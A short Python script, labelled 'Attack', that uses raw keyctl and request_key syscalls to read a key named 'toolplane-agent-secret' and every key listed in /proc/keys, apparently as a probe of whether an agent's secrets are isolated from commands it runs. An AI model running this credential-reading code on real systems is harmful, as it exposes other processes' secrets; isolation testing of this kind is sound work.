"""Attack: read the keys of the session keyring the command inherited (by name, then every key
listed in /proc/keys). Prints what it could read."""
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
KEYCTL_READ = 11
def read(key):
    buffer = ctypes.create_string_buffer(256)
    size = libc.syscall(250, KEYCTL_READ, ctypes.c_long(key), buffer, 256)
    return buffer.raw[:size].decode(errors="replace") if size >= 0 else "refused: " + os.strerror(ctypes.get_errno())
found = libc.syscall(249, b"user", b"toolplane-agent-secret", None, 0)
print("request_key:", read(found) if found >= 0 else "refused: " + os.strerror(ctypes.get_errno()))
try:
    for line in open("/proc/keys"):
        print("key", line.split()[0], read(int(line.split()[0], 16)))
except OSError as error:
    print("/proc/keys:", error)
